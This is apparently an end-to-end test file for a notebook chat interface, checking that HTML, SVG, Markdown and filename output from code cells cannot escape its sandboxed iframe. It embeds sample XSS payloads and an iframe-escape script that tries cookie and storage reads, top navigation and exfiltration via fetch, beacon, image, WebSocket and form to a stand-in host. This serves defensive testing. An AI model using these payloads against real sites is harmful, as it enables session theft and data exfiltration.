import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { eventually } from '../api/harness.ts';
import { type RunningPage, startPage } from './page-harness.ts';

/** Tries every way out of the frame, and writes the results into its own document. */
const attack = `
<h1 id="seen">…</h1>
<form id="form" method="post" action="/v1/chats?stolen=form"></form>
<script>
  const tried = {};
  const attempt = async (name, work) => {
    try { tried[name] = String(await work()); } catch (error) { tried[name] = error.name; }
  };
  const event = (target, good, bad) => new Promise((done) => { target[good] = () => done('reached'); target[bad] = () => done('refused'); });
  (async () => {
    await attempt('parent', () => parent.document.body.innerHTML);
    await attempt('frames', () => parent.frames[1].document.body);
    await attempt('top', () => { top.location = '/?stolen=top'; });
    await attempt('cookie', () => document.cookie);
    await attempt('localStorage', () => localStorage.length);
    await attempt('sessionStorage', () => sessionStorage.length);
    await attempt('indexedDB', () => indexedDB.open('x'));
    await attempt('fetch', () => fetch('/v1/chats?stolen=fetch'));
    await attempt('post', () => fetch('/v1/chats?stolen=post', { method: 'POST', body: '{}', mode: 'no-cors' }));
    await attempt('elsewhere', () => fetch('https://example.com/?stolen=elsewhere', { mode: 'no-cors' }));
    await attempt('beacon', () => navigator.sendBeacon('/v1/chats?stolen=beacon', '{}') && 'sent');
    await attempt('image', () => { const image = new Image(); image.src = '/v1/chats?stolen=image'; return event(image, 'onload', 'onerror'); });
    await attempt('script', () => { const script = document.createElement('script'); script.src = '/v1/chats?stolen=script'; document.body.append(script); return event(script, 'onload', 'onerror'); });
    await attempt('socket', () => event(new WebSocket('ws://' + new URL(document.baseURI).host + '/v1/chats/x/terminal?stolen=socket'), 'onopen', 'onerror'));
    await attempt('worker', () => event(new Worker('data:text/javascript,postMessage(1)'), 'onmessage', 'onerror'));
    await attempt('popup', () => window.open('/?stolen=popup'));
    await attempt('form', () => document.getElementById('form').submit());
    const inner = document.createElement('iframe');
    inner.src = '/v1/chats?stolen=frame';
    document.body.append(inner);
    parent.postMessage({ type: 'height', height: 1e9 }, '*');
    document.getElementById('seen').textContent = JSON.stringify(tried);
  })();
</script>`;

/** Navigates the frame to the API, which no policy of the frame can forbid. */
const wanderer = "<script>location.href = '/v1/chats?stolen=location'</script>";

describe('hostile output', () => {
  let running: RunningPage;
  let page: Page;
  const responses: string[] = [];
  beforeAll(async () => {
    running = await startPage();
    page = await running.visit();
    page.on('response', (response) => {
      if (response.url().includes('stolen')) responses.push(`${response.status()} ${response.url()}`);
    });
    page.context().on('page', (popup) => responses.push(`popup ${popup.url()}`));
  });
  afterAll(() => running?.[Symbol.asyncDispose]());

  const show = async (number: number, html: string) => {
    await page
      .getByLabel(`Code of cell ${number}`)
      .fill(`from IPython.display import HTML\nHTML(${JSON.stringify(html)})`);
    await page.getByLabel(`Run cell ${number}`).click();
    const cell = page.getByRole('listitem').filter({ has: page.getByLabel(`Code of cell ${number}`) });
    await cell.locator('iframe').waitFor();
    return cell.locator('iframe');
  };
  const withScripts = async (number: number, html: string) => {
    const frame = await show(number, html);
    await page.getByRole('button', { name: 'Run scripts' }).click();
    return frame;
  };
  const cookies = async () => (await page.context().cookies()).map(({ name, value }) => `${name}=${value}`);

  /** The requests for chats and terminals in the log of the agent. */
  const chatRequests = () =>
    running.agent
      .output()
      .split('\n')
      .filter((line) => /"route":"\/v1\/chats"|terminal"/.test(line));

  test('runs no script by default, and loads nothing', async () => {
    const stolen = '/v1/chats?stolen=still';
    const frame = await show(
      1,
      `<meta http-equiv="refresh" content="0; url=${stolen}"><link rel="stylesheet" href="${stolen}"><link rel="preload" as="image" href="${stolen}">
      <script>document.title = parent.pwned = 1</script><img src="x" onerror="parent.pwned = 1"><img src="${stolen}"><svg onload="parent.pwned = 1"></svg>
      <style>@import url(${stolen}); body { background: url(${stolen}) }</style><iframe srcdoc="<script>top.pwned = 1</script>"></iframe>
      <div><template shadowrootmode="open"><p>hidden</p><link rel="stylesheet" href="${stolen}"><slot></slot></template></div>
      <object data="${stolen}"></object><a href="${stolen}">away</a><a href="javascript:parent.pwned = 1">here</a><p>The end</p>`,
    );
    await frame.contentFrame().getByText('The end').waitFor();
    for (const name of ['away', 'here']) await frame.contentFrame().getByText(name).click();
    await eventually(async () => ((await frame.boundingBox())?.height ?? 0) > 40);
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    expect(responses).toEqual([]);
    // These locators pierce shadow roots.
    expect(await frame.contentFrame().locator('script, link, iframe, object').count()).toBe(0);
    expect(await frame.contentFrame().getByText('hidden').count()).toBe(0);
  });

  test('runs its scripts on request, in a frame that isolates them', async () => {
    await show(1, 'harmless');
    await page.getByText('Done in').waitFor();
    await eventually(async () => chatRequests().some((line) => line.includes('"POST"')));
    const [url, before] = [page.url(), chatRequests()];
    const frame = await withScripts(1, attack);
    const seen = frame.contentFrame().locator('#seen');
    await eventually(async () => (await seen.textContent())?.startsWith('{'), 60_000);
    const tried = JSON.parse((await seen.textContent()) ?? '{}');
    expect(tried).toMatchObject({
      parent: 'SecurityError',
      frames: 'SecurityError',
      top: 'SecurityError',
      cookie: 'SecurityError',
      localStorage: 'SecurityError',
      sessionStorage: 'SecurityError',
      fetch: 'TypeError',
      post: 'TypeError',
      elsewhere: 'TypeError',
      image: 'refused',
      script: 'refused',
      socket: 'refused',
      popup: 'null',
    });
    expect(responses).toEqual([]);
    expect(chatRequests()).toEqual(before);
    expect(new URL(page.url()).search).toBe(new URL(url).search);
    expect((await frame.boundingBox())?.height).toBeLessThan(600);
  });

  test('cannot navigate to the API, and does not disturb the session of the visitor', async () => {
    const [before, count] = [await cookies(), responses.length];
    await page.getByRole('button', { name: 'Python' }).click();
    await withScripts(2, wanderer);
    await eventually(async () => responses.length > count);
    expect(responses.slice(count).filter((response) => !response.startsWith('403 '))).toEqual([]);
    expect(await cookies()).toEqual(before);
    await page.reload();
    await page.getByRole('navigation', { name: 'Your chats' }).getByRole('link').first().waitFor();
  });

  test('is a picture if it is SVG, and text if it is text', async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1"><script>parent.pwned=1</script><rect width="9" height="9"/></svg>';
    const text = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
    await page
      .getByLabel('Code of cell 1')
      .fill(
        `from IPython.display import SVG, Markdown, display\ndisplay(SVG(data='''${svg}'''))\ndisplay(Markdown('''${text}\n\n[link](javascript:window.pwned=1) ![x](https://example.com/?stolen=markdown)'''))\nprint('''${text}''')\nraise ValueError('''${text}''')`,
      );
    await page.getByLabel('Run cell 1').click();
    await page.locator('.outputs .markdown').getByText(/^link/).waitFor();
    await page.getByText('ValueError').first().waitFor();
    expect(await page.locator('.outputs svg rect, .outputs script, .outputs img[onerror]').count()).toBe(0);
    expect(await page.locator('.outputs a[href^="javascript"]').count()).toBe(0);
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    expect(responses.filter((response) => response.includes('markdown'))).toEqual([]);
  });

  test('is text if it is the name of a file', async () => {
    const name = '<img src=x onerror=window.pwned=1>.txt';
    await page.getByLabel('Code of cell 1').fill(`open(${JSON.stringify(name)}, 'w').write('x')`);
    await page.getByLabel('Run cell 1').click();
    await page.getByText('Done in').first().waitFor();
    await page.getByRole('button', { name: 'Files', exact: true }).click();
    await page.getByRole('link', { name }).waitFor();
    expect(await page.evaluate('window.pwned')).toBeUndefined();
  });

  test('is text if it is Markdown that is nested too deeply', async () => {
    const code = "from IPython.display import Markdown\nMarkdown('>' * 5_000 + ' deep')";
    await page.getByLabel('Code of cell 1').fill(code);
    await page.getByLabel('Run cell 1').click();
    await page.getByText(/^>+ deep$/).waitFor();
    await page.reload();
    await page.getByText(/^>+ deep$/).waitFor();
  });
});
